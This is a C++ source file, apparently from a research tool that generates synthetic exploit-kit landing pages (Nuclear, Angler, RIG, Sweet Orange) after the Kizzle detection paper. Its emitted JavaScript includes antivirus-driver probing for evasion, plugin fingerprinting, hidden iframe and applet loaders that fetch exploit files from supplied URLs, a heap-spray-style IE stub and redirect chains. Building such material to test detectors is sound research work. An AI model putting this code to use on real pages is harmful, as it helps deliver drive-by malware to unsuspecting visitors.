@@ -1,0 +1,289 @@
+#include "kitgen/payload.h"
+
+#include <stdexcept>
+
+#include "support/strings.h"
+
+namespace kizzle::kitgen {
+
+namespace {
+
+// Short family prefix used for payload-internal identifiers.
+std::string fam_prefix(KitFamily f) {
+  switch (f) {
+    case KitFamily::Nuclear: return "nk";
+    case KitFamily::SweetOrange: return "so";
+    case KitFamily::Angler: return "ang";
+    case KitFamily::Rig: return "rg";
+  }
+  return "xx";
+}
+
+std::string cve_ident(const CveEntry& cve) {
+  std::string out;
+  for (char c : cve.cve) {
+    if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
+        (c >= 'A' && c <= 'Z')) {
+      out.push_back(c);
+    } else if (c == '-') {
+      out.push_back('_');
+    }
+  }
+  if (out.empty()) out = "unk";
+  return out;
+}
+
+}  // namespace
+
+std::string plugin_detector_core_text() {
+  // Modeled on the public PluginDetect library; Fig 15 of the paper shows
+  // this exact style of utility code as the source of a Kizzle false
+  // positive (79% overlap with Nuclear's unpacked payload).
+  return R"JS(
+var PDCore={version:"0.8.1",
+rgx:{str:/string/i,num:/number/i,fun:/function/i,arr:/array/i,any:/Boolean|String|Number|Function|Array|Date|RegExp|Error/},
+toString:({}).constructor.prototype.toString,
+hasOwn:function(c,b){try{return({}).constructor.prototype.hasOwnProperty.call(c,b)}catch(e){return 0}},
+isPlainObject:function(c){var a=this,b;if(!c||a.rgx.any.test(a.toString.call(c))||c.window==c||a.rgx.num.test(a.toString.call(c.nodeType))){return 0}
+try{if(!a.hasOwn(c,"constructor")&&!a.hasOwn(c.constructor.prototype,"isPrototypeOf")){return 0}}catch(b){return 0}return 1},
+isDefined:function(b){return typeof b!="undefined"},
+isArray:function(b){return this.rgx.arr.test(this.toString.call(b))},
+isString:function(b){return this.rgx.str.test(this.toString.call(b))},
+isNum:function(b){return this.rgx.num.test(this.toString.call(b))},
+isFunc:function(b){return this.rgx.fun.test(this.toString.call(b))},
+getNumRegx:/[\d][\d\.\_,-]*/,
+splitNumRegx:/[\.\_,-]/g,
+getNum:function(b,c){var d=this,a=d.isStrNum(b)?(d.isDefined(c)?new RegExp(c):d.getNumRegx).exec(b):null;return a?a[0]:null},
+isStrNum:function(b){return(typeof b=="string"&&(/\d/).test(b))},
+compareNums:function(f,d,e){var c=this,b,a,g,h=parseInt;if(c.isStrNum(f)&&c.isStrNum(d)){if(c.isDefined(e)&&e.compareNums){return e.compareNums(f,d)}
+b=f.split(c.splitNumRegx);a=d.split(c.splitNumRegx);for(g=0;g<Math.min(b.length,a.length);g++){if(h(b[g],10)>h(a[g],10)){return 1}if(h(b[g],10)<h(a[g],10)){return -1}}}return 0},
+formatNum:function(b,c){var d=this,a,e;if(!d.isStrNum(b)){return null}if(!d.isNum(c)){c=4}c--;e=b.replace(/\s/g,"").split(d.splitNumRegx).concat(["0","0","0","0"]);for(a=0;a<4;a++){if(/^(0+)(.+)$/.test(e[a])){e[a]=RegExp.$2}if(a>c||!(/\d/).test(e[a])){e[a]="0"}}return e.slice(0,4).join(",")},
+getMimeEnabledPlugin:function(f,d){var c=this,a,b=new RegExp(d,"i");f=c.isArray(f)?f:[f];for(a=0;a<f.length;a++){try{if(navigator.mimeTypes[f[a]]&&navigator.mimeTypes[f[a]].enabledPlugin&&b.test(navigator.mimeTypes[f[a]].enabledPlugin.name)){return navigator.mimeTypes[f[a]].enabledPlugin}}catch(e){}}return 0},
+getPluginNamed:function(d){var c=this,b,a=new RegExp(d,"i");try{for(b=0;b<navigator.plugins.length;b++){if(a.test(navigator.plugins[b].name)){return navigator.plugins[b]}}}catch(e){}return 0},
+getFlashVer:function(){var c=this,b,a;b=c.getMimeEnabledPlugin("application/x-shockwave-flash","Flash");if(b){a=c.getNum(b.description)}else{try{var d=new ActiveXObject("ShockwaveFlash.ShockwaveFlash");a=c.getNum(d.GetVariable("$version").replace(/,/g,"."))}catch(e){a=null}}return c.formatNum(a)},
+getSilverlightVer:function(){var c=this,a=null;try{var b=new ActiveXObject("AgControl.AgControl");var d=["5,1,50906","5,1,50901","5,0,61118","4,0,60310"];for(var f=0;f<d.length;f++){if(b.IsVersionSupported(d[f].replace(/,/g,"."))){a=d[f];break}}}catch(e){var g=c.getMimeEnabledPlugin("application/x-silverlight-2","Silverlight");if(g){a=c.getNum(g.description)}}return c.formatNum(a)},
+getJavaVer:function(){var c=this,a=null,b;b=c.getMimeEnabledPlugin(["application/x-java-applet","application/x-java-vm"],"Java");if(b){a=c.getNum(b.description)}
+if(!a){try{var d=new ActiveXObject("JavaWebStart.isInstalled");a="1,6,0,0"}catch(e){}}return c.formatNum(a)},
+getReaderVer:function(){var c=this,a=null;try{var b=new ActiveXObject("AcroPDF.PDF");a=c.getNum(b.GetVersions().split(",")[0])}catch(e){var d=c.getPluginNamed("Adobe Reader|Adobe PDF");if(d){a=c.getNum(d.description)}}return c.formatNum(a)},
+getIEVer:function(){var b=null;if(/MSIE ([\d\.]+)/.test(navigator.userAgent)){b=RegExp.$1}return b}
+};
+)JS";
+}
+
+std::string av_check_text() {
+  // The canonical AV-detection module. One fixed text, used verbatim by
+  // every kit whose spec enables it — the paper observed the exact same
+  // code in RIG (from May), then Angler and Nuclear (from August),
+  // apparently copied between rival kits (§II.B "code borrowing").
+  return R"JS(
+function avscan_rk(){var hit=0;
+var drv=["c:\\windows\\system32\\drivers\\kl1.sys","c:\\windows\\system32\\drivers\\tmactmon.sys","c:\\windows\\system32\\drivers\\avc3.sys","c:\\windows\\system32\\drivers\\bdfsfltr.sys","c:\\windows\\system32\\drivers\\avgtpx86.sys"];
+for(var av_i=0;av_i<drv.length;av_i++){try{var avx=new ActiveXObject("Microsoft.XMLHTTP");avx.open("GET","res://"+drv[av_i],false);avx.send();hit=1}catch(averr){}}
+try{if(window.external&&window.external.msIsSiteMode&&document.documentElement.style.behavior!==void 0){var kres=0}}catch(kerr){}
+return hit}
+)JS";
+}
+
+std::string exploit_stub_text(KitFamily family, const CveEntry& cve,
+                              const std::string& url) {
+  const std::string p = fam_prefix(family);
+  const std::string id = cve_ident(cve);
+  std::string body;
+  switch (cve.target) {
+    case PluginTarget::Flash:
+      body = R"JS(
+function @P@_fl_@ID@(){if(PDVER.flash&&PDCore.compareNums(PDVER.flash,"13,0,0,206")<=0){
+var fo=document.createElement("object");fo.setAttribute("classid","clsid:d27cdb6e-ae6d-11cf-96b8-444553540000");fo.width=10;fo.height=10;
+var fp=document.createElement("param");fp.name="movie";fp.value="@URL@/media/fl_@ID@.swf";fo.appendChild(fp);
+var fv=document.createElement("param");fv.name="FlashVars";fv.value="exec=1&id=@ID@";fo.appendChild(fv);
+document.body.appendChild(fo)}}
+)JS";
+      break;
+    case PluginTarget::Silverlight:
+      body = R"JS(
+function @P@_sl_@ID@(){if(PDVER.silverlight&&PDCore.compareNums(PDVER.silverlight,"5,1,20125")<=0){
+var so=document.createElement("object");so.setAttribute("data","data:application/x-silverlight-2,");so.setAttribute("type","application/x-silverlight-2");
+var sp=document.createElement("param");sp.name="source";sp.value="@URL@/media/sl_@ID@.xap";so.appendChild(sp);
+var si=document.createElement("param");si.name="initParams";si.value="payload=@ID@,shell32=1";so.appendChild(si);
+document.body.appendChild(so)}}
+)JS";
+      break;
+    case PluginTarget::Java:
+      body = R"JS(
+function @P@_jv_@ID@(){if(PDVER.java){
+var ja=document.createElement("applet");ja.setAttribute("code","inc.Starter.class");ja.setAttribute("archive","@URL@/media/jv_@ID@.jar");
+var jp=document.createElement("param");jp.name="data";jp.value="@URL@/load.php?e=@ID@";ja.appendChild(jp);
+document.body.appendChild(ja)}}
+)JS";
+      break;
+    case PluginTarget::AdobeReader:
+      body = R"JS(
+function @P@_pdf_@ID@(){if(PDVER.reader&&PDCore.compareNums(PDVER.reader,"9,3,0,0")<=0){
+var pf=document.createElement("iframe");pf.width=1;pf.height=1;pf.style.border="0px";pf.src="@URL@/media/doc_@ID@.pdf";
+document.body.appendChild(pf)}}
+)JS";
+      break;
+    case PluginTarget::InternetExplorer:
+      body = R"JS(
+function @P@_ie_@ID@(){if(PDVER.ie&&PDCore.compareNums(PDVER.ie+",0,0,0","10,0,0,0")<=0){
+var hs=[];var hb=0x0c0c0c0c;for(var hi=0;hi<1024;hi++){hs[hi]=(unescape("%u0c0c%u0c0c")+"@ID@").substring(0,63)}
+var vr=document.createElement("vml:rect");vr.style.behavior="url(#default#VML)";
+try{vr.dashstyle="x x x "+hb;vr.anchorRect="@URL@/load.php?e=@ID@"}catch(ie_e){}
+document.body.appendChild(vr)}}
+)JS";
+      break;
+  }
+  body = replace_all(body, "@P@", p);
+  body = replace_all(body, "@ID@", id);
+  body = replace_all(body, "@URL@", url);
+  return body;
+}
+
+std::string payload_text(const PayloadSpec& spec) {
+  if (spec.urls.empty()) {
+    throw std::invalid_argument("payload_text: at least one URL required");
+  }
+  const std::string p = fam_prefix(spec.family);
+  std::string out;
+  out.reserve(8192);
+
+  // 1. Detector. Nuclear carries the PluginDetect-derived core; the other
+  // kits use a compact custom prober (stable per family).
+  if (spec.family == KitFamily::Nuclear) {
+    out += plugin_detector_core_text();
+    out += R"JS(
+var PDVER={flash:PDCore.getFlashVer(),silverlight:PDCore.getSilverlightVer(),java:PDCore.getJavaVer(),reader:PDCore.getReaderVer(),ie:PDCore.getIEVer()};
+)JS";
+  } else {
+    out += compact_detector_text(p);
+  }
+
+  // 2. AV check (shared text; §II.B code borrowing).
+  if (spec.av_check) {
+    out += av_check_text();
+  }
+
+  // 3. Exploits. RIG delivers its exploits through gate URLs (short body,
+  // URL-heavy — Fig 11d); the other kits carry one inline stub per CVE.
+  if (spec.family == KitFamily::Rig) {
+    std::vector<std::string> gates = spec.gate_urls;
+    if (gates.empty()) {
+      for (std::size_t i = 0; i < spec.cves.size(); ++i) {
+        gates.push_back(spec.urls[i % spec.urls.size()] + "/load.php?e=" +
+                        cve_ident(spec.cves[i]));
+      }
+    }
+    out += "var " + p + "_gates=[";
+    for (std::size_t i = 0; i < gates.size(); ++i) {
+      if (i) out.push_back(',');
+      out += "\"" + gates[i] + "\"";
+    }
+    out += "];\n";
+    out += "function " + p +
+           "_fire(){if(!PDVER.flash&&!PDVER.silverlight&&!PDVER.ie){return}"
+           "for(var gi=0;gi<" +
+           p + "_gates.length;gi++){var fr=document.createElement(\"iframe\");"
+           "fr.width=1;fr.height=1;fr.src=" +
+           p + "_gates[gi];document.body.appendChild(fr)}}\n";
+  } else {
+    for (std::size_t i = 0; i < spec.cves.size(); ++i) {
+      out += exploit_stub_text(spec.family, spec.cves[i],
+                               spec.urls[i % spec.urls.size()]);
+    }
+  }
+
+  // 3a. Sweet Orange: the rotating redirector chain.
+  if (!spec.redirect_chain.empty()) {
+    out += "var " + p + "_chain=[";
+    for (std::size_t i = 0; i < spec.redirect_chain.size(); ++i) {
+      if (i) out.push_back(',');
+      out += "\"" + spec.redirect_chain[i] + "\"";
+    }
+    out += "];\n";
+    out += "function " + p + "_hop(n){if(n<" + p +
+           "_chain.length){var s=document.createElement(\"script\");s.src=" +
+           p + "_chain[n];document.body.appendChild(s)}}\n";
+  }
+
+  // 3b. Angler after 8/13: the Java marker string lives in the payload and
+  // is only written out when a vulnerable Java is present (Fig 6).
+  if (spec.embed_java_marker) {
+    std::string marker = R"JS(
+function @P@_jmark(){if(PDVER.java&&PDCore.compareNums(PDVER.java,"1,7,0,17")<=0){
+document.write('<applet code="@MARK@.class" archive="@URL@/media/@MARK@.jar"></applet>')}}
+)JS";
+    marker = replace_all(marker, "@P@", p);
+    marker = replace_all(marker, "@MARK@", spec.java_marker);
+    marker = replace_all(marker, "@URL@", spec.urls[0]);
+    out += marker;
+  }
+
+  // 4. Execution trigger: gate on the AV check, then fire every stub.
+  out += "function " + p + "_go(){";
+  if (spec.av_check) {
+    out += "if(avscan_rk()){return}";
+  }
+  if (spec.family == KitFamily::Rig) {
+    out += p + "_fire();";
+  } else {
+    for (const CveEntry& cve : spec.cves) {
+      const std::string id = cve_ident(cve);
+      switch (cve.target) {
+        case PluginTarget::Flash: out += p + "_fl_" + id + "();"; break;
+        case PluginTarget::Silverlight: out += p + "_sl_" + id + "();"; break;
+        case PluginTarget::Java: out += p + "_jv_" + id + "();"; break;
+        case PluginTarget::AdobeReader: out += p + "_pdf_" + id + "();"; break;
+        case PluginTarget::InternetExplorer:
+          out += p + "_ie_" + id + "();";
+          break;
+      }
+    }
+  }
+  if (!spec.redirect_chain.empty()) {
+    out += p + "_hop(0);";
+  }
+  if (spec.embed_java_marker) {
+    out += p + "_jmark();";
+  }
+  out += "}\n" + p + "_go();\n";
+  return out;
+}
+
+std::string compact_detector_text(const std::string& prefix) {
+  std::string det = R"JS(
+var PDCore={compareNums:function(f,d){var b=f.split(","),a=d.split(",");for(var g=0;g<4;g++){if(parseInt(b[g],10)>parseInt(a[g],10)){return 1}if(parseInt(b[g],10)<parseInt(a[g],10)){return -1}}return 0}};
+function @P@_probe(m,n){try{if(navigator.mimeTypes[m]&&navigator.mimeTypes[m].enabledPlugin){return navigator.mimeTypes[m].enabledPlugin.description.replace(/[^\d]+/g,",")}}catch(e){}
+try{var o=new ActiveXObject(n);return "1,0,0,0"}catch(e2){}return null}
+var PDVER={flash:@P@_probe("application/x-shockwave-flash","ShockwaveFlash.ShockwaveFlash"),
+silverlight:@P@_probe("application/x-silverlight-2","AgControl.AgControl"),
+java:@P@_probe("application/x-java-applet","JavaWebStart.isInstalled"),
+reader:@P@_probe("application/pdf","AcroPDF.PDF"),
+ie:(/MSIE ([\d\.]+)/.test(navigator.userAgent))?RegExp.$1:null};
+)JS";
+  return replace_all(det, "@P@", prefix);
+}
+
+std::string plugindetect_library_text(int minor_version) {
+  // The benign library: the shared detector core is the bulk of the file
+  // (the Fig 15 overlap), followed by the public API tail that the kits do
+  // not copy.
+  std::string out = plugin_detector_core_text();
+  out += R"JS(
+var PluginDetect={version:"0.8.@V@",name:"PluginDetect",
+getVersion:function(h,b,c){var a=null,d=(h+"").toLowerCase().replace(/\s/g,"");
+if(d=="flash"){a=PDCore.getFlashVer()}
+if(d=="silverlight"){a=PDCore.getSilverlightVer()}
+if(d=="java"){a=PDCore.getJavaVer(b,c)}
+if(d=="adobereader"||d=="pdfreader"){a=PDCore.getReaderVer()}
+return a?a.replace(/,/g,"."):a},
+isMinVersion:function(h,f){var a=this.getVersion(h),b=-1;if(a){b=PDCore.compareNums(PDCore.formatNum(a.replace(/\./g,",")),PDCore.formatNum((f+"").replace(/\./g,",")))>=0?1:-0.1}return b},
+onDetectionDone:function(h,c,b){var a=this;if(a.getVersion(h)!==null){c(a)}else{setTimeout(function(){c(a)},b||100)}return 1},
+hasMimeType:function(b){return PDCore.getMimeEnabledPlugin(b,".")?true:false},
+onWindowLoaded:function(c){if(window.addEventListener){window.addEventListener("load",c,false)}else{window.attachEvent("onload",c)}},
+beforeInstantiate:function(h){},afterInstantiate:function(h){}
+};
+)JS";
+  return replace_all(out, "@V@", std::to_string(minor_version));
+}
+
+}  // namespace kizzle::kitgen
